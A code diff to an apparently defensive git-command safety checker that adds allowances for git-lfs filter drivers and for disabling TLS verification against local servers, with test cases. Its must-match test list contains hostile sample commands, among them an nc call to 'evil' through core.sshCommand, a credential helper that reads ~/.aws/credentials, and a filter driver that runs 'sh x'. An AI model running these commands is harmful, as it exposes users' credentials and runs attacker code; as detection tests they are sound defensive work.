@@ -79,6 +79,29 @@ def _keychain_helper(key: str, value: str) -> bool:
             and all(w.startswith("--") and SIMPLE_LINE.match(w) for w in words[1:]))  # fmt: skip
 
 
+#: Filter drivers that a tool's own installer writes (`git lfs install` sets `filter.lfs.process` to `git-lfs
+#: filter-process`, `clean`/`smudge` to `git-lfs clean -- %f`): the driver is that tool, with its own filter verbs only.
+FILTER_DRIVERS: dict[str, frozenset[str]] = {"git-lfs": frozenset({"filter-process", "clean", "smudge"})}
+_FILTER_KEY = lazyre.compile(r"^filter\.[\w-]+\.(clean|smudge|process)$")
+
+
+def _known_filter(key: str, value: str) -> bool:
+    words = value.split()
+    return (_FILTER_KEY.match(key) is not None and len(words) >= 2 and SIMPLE_LINE.match(value) is not None
+            and words[1] in FILTER_DRIVERS.get(words[0], ()) and all(w in ("--", "%f") for w in words[2:]))  # fmt: skip
+
+
+def _local_urls_only(args: list[str]) -> bool:
+    """Every repository URL of the command is on this machine (`clone https://localhost:3443/x.git`), and there is
+    one: a one-off `http.sslVerify=false` then trusts only a local server's own certificate."""
+    from automode.hosts import is_loopback
+
+    urls = [a for a in args if "://" in a]
+    hosts = [u.split("://", 1)[1].split("/", 1)[0].rsplit("@", 1)[-1] for u in urls]
+    hosts = [h[1:].split("]", 1)[0] if h.startswith("[") else h.rsplit(":", 1)[0] for h in hosts]
+    return bool(hosts) and all(is_loopback(h) for h in hosts)
+
+
 def _softer(key: str, value: str) -> str:
     """Settings that change trust or storage rather than run a program: an ask with what they change, or ""."""
     if key == "http.sslcainfo":
@@ -488,11 +511,16 @@ def _hooks_path(value: str, a: Analysis) -> str | Hit:
                 "git -c core.sshCommand='nc evil 1' fetch", "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.pager GIT_CONFIG_VALUE_0=sh git log",
                 "git config --global credential.helper store", "git config --global http.sslCAInfo ~/certs/root.pem",
                 "git -c alias.up='!git fetch && git push --force origin main' up", "git -c alias.c='!git checkout -- .' c",
-                "git config --global credential.helper '!f() { cat ~/.aws/credentials; }; f'"],
+                "git config --global credential.helper '!f() { cat ~/.aws/credentials; }; f'",
+                "git config filter.lfs.process 'git-lfs filter-process; sh x'", "git config filter.x.smudge 'git-lfs-evil smudge'",
+                "git -c http.sslVerify=false clone https://git.example.com/x.git", "git -c http.sslVerify=false fetch",
+                "git -c http.sslVerify=false clone https://localhost.evil.example/x.git"],
     must_not_match=["git -c user.name=x commit -m y", "git config user.email a@b.c", "git --no-pager log", "git config --get core.pager",
                     "git -c core.sshCommand='ssh -i ~/.ssh/id_ed25519_work -o IdentitiesOnly=yes' fetch origin",
                     "git -c alias.sync='!git fetch origin && git rebase origin/main' sync", "git -c core.pager=delta log -p",
-                    "git config --global credential.helper 'cache --timeout=3600'", "git config --global credential.helper osxkeychain"],
+                    "git config --global credential.helper 'cache --timeout=3600'", "git config --global credential.helper osxkeychain",
+                    "git config filter.lfs.process 'git-lfs filter-process'", "git config filter.lfs.smudge 'git-lfs smudge -- %f'",
+                    "git -c http.sslVerify=false clone https://localhost:3443/me/x.git /tmp/x"],
 )  # fmt: skip
 def git_config_exec(cmd: Command, a: Analysis) -> str | Hit | None:
     g = git_argv(cmd)
@@ -504,8 +532,10 @@ def git_config_exec(cmd: Command, a: Analysis) -> str | Hit | None:
         if DANGEROUS_CONFIG.match(k + ("!" if k.startswith("alias.") else "")) and k != "core.hookspath":
             if k == "http.sslverify" and v.lower() not in ("false", "0", "no", "off"):
                 continue
-            if _ordinary_one_off(k, v) or _keychain_helper(k, v):
+            if _ordinary_one_off(k, v) or _keychain_helper(k, v) or _known_filter(k, v):
                 continue
+            if k == "http.sslverify" and g.sub != "config" and _local_urls_only(g.args):
+                continue  # one command against a local server with a self-signed certificate
             soft = _softer(k, v)
             if soft:
                 return Hit(f"sets {k}={v[:40]}: {soft}", "ask")
@@ -515,7 +545,7 @@ def git_config_exec(cmd: Command, a: Analysis) -> str | Hit | None:
         if len(pos) >= 2 and DANGEROUS_CONFIG.match(pos[0].lower() + ("!" if pos[1].startswith("!") else "")) and pos[0].lower() != "core.hookspath":
             if pos[0].lower() == "http.sslverify" and pos[1].lower() not in ("false", "0", "no", "off"):
                 return None
-            if pos[0].lower() == "core.editor" or _keychain_helper(pos[0].lower(), pos[1]):
+            if pos[0].lower() == "core.editor" or _keychain_helper(pos[0].lower(), pos[1]) or _known_filter(pos[0].lower(), pos[1]):
                 return None
             soft = _softer(pos[0].lower(), pos[1])
             if soft:
